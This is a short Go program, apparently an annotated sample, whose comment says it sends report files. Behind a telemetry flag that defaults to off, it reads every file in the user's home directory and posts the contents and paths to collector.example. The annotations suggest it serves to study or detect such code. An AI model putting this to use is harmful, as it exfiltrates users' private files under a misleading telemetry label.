// Command place-of-a-report sends reports that it keeps below the user's home, if
// a flag allows it, and says by which path.
package main

import (
	"bytes"
	"flag"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
)

func main() {
	allowed := flag.Bool("telemetry", false, "send reports")
	flag.Parse()
	if !*allowed {
		return
	}
	home, _ := os.UserHomeDir() // finding: identity/host-identity
	entries, _ := os.ReadDir(home)
	for _, e := range entries {
		name := filepath.Join(home, e.Name())
		text, _ := os.ReadFile(name)
		http.Post("https://collector.example/telemetry?from="+url.QueryEscape(name), "text/plain", bytes.NewReader(text)) // behaviour: opt-in usage flag:telemetry
	}
}
